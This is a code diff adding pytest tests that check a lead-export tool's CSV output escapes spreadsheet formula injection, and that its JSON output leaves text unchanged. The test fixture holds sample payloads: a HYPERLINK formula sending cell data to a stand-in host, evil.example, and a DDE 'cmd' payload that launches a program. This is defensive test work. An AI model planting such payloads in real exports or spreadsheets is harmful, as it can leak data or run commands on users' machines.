@@ -145,3 +145,61 @@ async def test_cli_asks_for_a_team_when_there_are_several(engine: AsyncEngine, d
     args = argparse.Namespace(kind="leads", since=None, format="csv", output=None, team=None)
     with pytest.raises(ConfigError, match="several workspaces"):
         await export_cmd.run(load_settings(database_url=database_url), args)
+
+
+FORMULAS = {
+    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
+    "company": "+cmd|' /C calc'!A0",
+    "title": "-2+3",
+    "notes": "@SUM(1+1)",
+    "campaign": "\t=1+1",
+    "source": "\r=1+1",
+    "region": "'=quoted already",
+    "phone": "+44 20 7946 0000",
+    "segment": "mid-market\r=1+1",  # a bare CR would start a new row in a spreadsheet
+}
+
+
+async def seed_formulas(engine: AsyncEngine) -> None:
+    async with make_session_factory(engine)() as session, session.begin():
+        evil = lead_row(TEAM, 60, "03-15 09:00", "new", score=-5, external_id="-60")
+        for column, text in FORMULAS.items():
+            setattr(evil, column, text)
+        evil.reject_detail, evil.verdict_comment = "=1+1", "@evil"
+        evil.rejected_at = evil.verdict_at = evil.created_at
+        session.add(evil)
+
+
+def formula_cells(text: str) -> list[str]:
+    """Every cell a spreadsheet would evaluate: its first non-blank character starts a formula."""
+    return [
+        cell
+        for row in csv.reader(io.StringIO(text, newline=""))
+        for cell in row
+        if cell.lstrip(" \n")[:1] in ("=", "+", "-", "@", "\t", "\r")
+    ]
+
+
+@pytest.mark.parametrize("kind", [ExportKind.LEADS, ExportKind.FEEDBACK])
+async def test_csv_exports_quote_every_text_cell_a_spreadsheet_would_run(
+    engine: AsyncEngine, kind: ExportKind
+) -> None:
+    await seed_formulas(engine)
+    text, count = await export(engine, kind)
+    assert count == 1
+    # only the lead's score, a number a spreadsheet reads as -5 (the feedback export has none)
+    assert formula_cells(text) == (["-5"] if kind is ExportKind.LEADS else [])
+    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert row["name"] == "'" + FORMULAS["name"] and row["company"] == "'" + FORMULAS["company"]
+    if kind is ExportKind.LEADS:
+        assert row["phone"] == "'+44 20 7946 0000" and row["region"] == "''=quoted already"
+        assert row["score"] == "-5" and row["external_id"] == "'-60"
+    else:
+        assert row["comment"] == "'@evil" and row["reject_detail"] == "'=1+1"
+
+
+async def test_json_exports_keep_the_text_as_it_is(engine: AsyncEngine) -> None:
+    await seed_formulas(engine)
+    text, _ = await export(engine, ExportKind.LEADS, "json")
+    [row] = json.loads(text)
+    assert {k: row[k] for k in FORMULAS} == FORMULAS and row["score"] == -5
